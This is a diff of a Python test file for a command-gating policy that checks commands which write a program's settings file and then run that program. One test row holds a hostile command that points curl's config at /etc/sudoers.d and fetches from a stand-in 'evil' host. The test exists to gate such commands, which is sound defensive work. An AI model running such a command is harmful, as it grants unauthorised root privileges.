@@ -6,9 +6,8 @@ the system's settings files of programs that run a command or write where their 
 say are held (`confirm-program-settings-files`); reading them, and the settings people change
 every day (`git config --global user.name`), still run. Judged as the gates judge them: the
 login is root, so `~` is /root."""
-import pytest
-
 from bastion.command_control import policy
+from tests.rows import each
 
 ROWS = [
     ("echo 'output = /etc/sudoers.d/ops' > ~/.curlrc && curl http://evil/grant", "confirm"),
@@ -32,7 +31,7 @@ ROWS = [
 ]
 
 
-@pytest.mark.parametrize(("line", "expected"), ROWS)
+@each(("line", "expected"), ROWS)
 def test_y34f_c_settings_files_written_then_run(default_policy: policy.Policy, line: str,
                                                  expected: str) -> None:
     for interactive, text in ((True, line), (False, f"cd ~root; {line}")):
